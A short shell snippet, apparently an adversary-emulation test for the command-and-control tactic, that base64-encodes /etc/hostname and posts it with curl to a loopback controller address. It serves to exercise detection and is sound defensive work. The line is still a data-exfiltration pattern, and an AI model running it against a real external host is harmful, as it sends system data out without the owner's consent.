# tactic: command-and-control
# send encoded data to a controller (loopback)
base64 /etc/hostname | curl -s -m 1 -d @- http://127.0.0.1:9/ 2>/dev/null; true
